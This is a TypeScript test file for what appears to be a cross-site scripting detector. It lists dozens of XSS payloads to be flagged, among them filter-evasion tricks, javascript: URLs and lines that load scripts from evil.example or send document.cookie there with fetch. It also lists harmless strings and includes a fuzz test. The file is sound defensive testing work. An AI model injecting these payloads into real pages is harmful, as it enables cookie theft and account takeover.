import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { fuzzRuns } from '../../../test/support/fuzz-runs.ts'
import type { AttackContext } from '../attack.ts'
import { isAttack, rulesOf } from '../fixtures.ts'

const attacks: readonly (readonly [where: string, value: string, context?: AttackContext])[] = [
  ['in text, a script', '<script>steal()</script>'],
  ['in text, a script from elsewhere', 'hi<script src=//evil.example/x.js></script>'],
  ['in text, a script with a slash in its tag', '<script/src=//evil.example>'],
  ['in text, a script in capitals', '<ScRiPt>top[`al`+`ert`](1)</sCrIpT>'],
  ['in text, a script in a script tag that a filter takes out', '<scr<script>ipt>alert(1)</script>'],
  [
    'in text, a script in a posting',
    'I liked what you said about it, and I will come back. <script src="https://evil.example/a.js"></script>',
    'body',
  ],
  ['in text, a handler', '<img src=x onerror=alert(7)>'],
  ['in text, a handler without blanks', '<svg/onload=confirm`7`>'],
  ['in text, a handler behind a quoted value', '<img src="x"onerror=alert(7)>'],
  ['in text, a handler of an unknown element', '<x onpointerenter=alert(7)>hover'],
  ['in text, a handler of an event of tomorrow', '<div onsomethingnew=alert(7)>'],
  ['in text, a handler in a tag that the page closes', '<img src=x onerror=alert(7)//'],
  ['in text, a handler in a posting', '<p>nice</p><details open ontoggle=fetch(`//evil.example`)>', 'body'],
  [
    'in text, an animation to a script',
    '<svg><a><animate attributeName=href values=javascript:alert(7) /><text y=1>x</text></a></svg>',
  ],
  ['in text, a frame with its own document', '<iframe srcdoc="<b>hello</b>">', 'body'],
  [
    'in text, markup in an attribute that a second reading lets out',
    '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  ],
  ['in text, a page that redirects', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['in text, a base', '<base href="https://evil.example/">'],
  [
    'in text, a form that asks for a password',
    '<form action=https://evil.example/><input name=password></form>',
  ],
  ['in text, a style with an expression', '<div style="width:exp/**/ression(alert(7))">'],
  ['in text, a style with escapes', '<div style="background:url(ja\\76 ascript:alert(7))">'],
  ['in text, an object', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['in text, MathML that links', '<math><mtext href="javascript:alert(7)">x</mtext></math>'],
  ['in text, a conditional comment', '<!--[if gte IE 4]><b>x</b><![endif]-->'],
  ['in a title', '</title><h1>gone</h1>'],
  ['in a script', '</script><b>x'],
  ['in UTF-7', '+ADw-script+AD4-alert(7)+ADw-/script+AD4-'],
  ['in double quotes', '" onmouseover="alert(7)'],
  ['in double quotes, without blanks', '"onfocus=alert(7) autofocus x="'],
  ['in single quotes', "x' onfocus='alert(7)' autofocus='"],
  ['in no quotes', 'x onmouseover=alert(7)'],
  ['in quotes, out of the tag', '"><svg onload=alert(7)>'],
  ['in an address', 'javascript:alert(7)'],
  ['in an address, with controls in the scheme', 'java\tscr\nipt:alert(7)'],
  ['in an address, with blanks before it', '  \u0001javascript:alert(7)'],
  ['in an address, as a comment', 'javascript://x%0aalert(7)'],
  ['in an address, of another script', 'vbscript:msgbox(7)'],
  ['in an address, as a document', 'data:text/html,<script>alert(7)</script>'],
  ['in a string', "';alert(7);//"],
  ['in a string, as an operand', "'-alert(7)-'"],
  ['in a string, behind an escape', "\\';alert(7)//"],
  ['in a string within calls', '"});prompt(7);({"a":"'],
  ['in a string, with data sent away', '";fetch("//evil.example/"+document.cookie);"'],
  ['in a template', '${alert(7)}'],
  ['in a script, a call', 'alert(document.domain)'],
  ['in a script, by a computed name', 'window["al"+"ert"](7)'],
  ['in a script, in brackets', '(alert)(7)'],
  ['in a script, through another call', '[7].map(alert)'],
  ['in a script, with a comment', 'alert/*x*/(7)'],
  ['in a script, thrown', 'onerror=alert;throw 7'],
  ['in a script, in signs', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]'],
  ['in a script, made of numbers', 'eval(String.fromCharCode(97,108,101,114,116,40,41))'],
  ['in a script, as a statement', 'a="x";'],
  ['stripped of brackets', 'scriptalert(7)/script'],
  ['as a probe', '<xss id=x tabindex=1>'],
]

const harmless: readonly (readonly [value: string, context?: AttackContext])[] = [
  ['<3 you all'],
  ['a<b and b>c'],
  ['if (a < b) return c > d'],
  ['x <- y'],
  ['<b>bold</b> and <i>italic</i>'],
  ['Jane Roe <jane.roe@example.org>'],
  ['see <https://example.org/a?b=c>'],
  [
    '<p>One <a href="https://example.org/">link</a> and <img src="https://example.org/a.png" alt="x"></p>',
    'body',
  ],
  ['<ul><li>one</li><li>two</li></ul>', 'body'],
  ['javascript:void(0)'],
  ['javascript:;'],
  ['javascript: the good parts'],
  ['data:image/png;base64,iVBORw0KGgo='],
  ['online=true&once=1'],
  ['one = 1, online = yes'],
  ["it's 5 o'clock; call (me)"],
  ['rock "n" roll (live)'],
  ['You can call alert(1) to see whether it works'],
  ['the function confirm() returns true'],
  ['window size: 10, top: 5'],
  ['https://example.org/online/list?location=top&name=x'],
  ['Location: Paris (France)'],
  ['a=b;c=d'],
  ['price [EUR] + tax (19%)'],
  ['{"a":[1,2],"b":{"c":"d"}}'],
  [
    'The <script> tag goes into the head of the page, and that is where you will find it in most of them.',
    'body',
  ],
  ['List<String> names = new ArrayList<>()', 'body'],
  ['std::vector<int> v;', 'body'],
]

test('what would become markup or script where it lands is an attack', () => {
  for (const [where, value, context] of attacks) {
    assert.ok(isAttack(value, context), `${where}: ${value}`)
    assert.ok(
      rulesOf(value, context).some((rule) => rule.startsWith('xss.')),
      `${where}: ${rulesOf(value, context).join(' ')}`,
    )
  }
})

test('harmless markup, comparisons and addresses are none', () => {
  for (const [value, context] of harmless)
    assert.ok(!isAttack(value, context), `${value}: ${rulesOf(value, context).join(' ')}`)
})

test('any text is judged without an error, in capitals as in small letters', () => {
  const pieces = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    ' ',
    '`',
    '(',
    ')',
    'on',
    'onload',
    'script',
    'style',
    'alert',
    '&{',
    'javascript:',
    '<!--',
    '/*',
    '\\',
    '\0',
    'é',
    '[',
    ']',
    '+',
    'document.cookie',
  )
  const text = fc.oneof(
    fc.string({ unit: 'binary-ascii' }),
    fc.array(pieces).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (value) => {
      for (const context of ['query', 'body'] as const) {
        const rules = rulesOf(value, context)
        assert.deepEqual(rulesOf(value, context), rules)
      }
    }),
    { numRuns: fuzzRuns },
  )
})
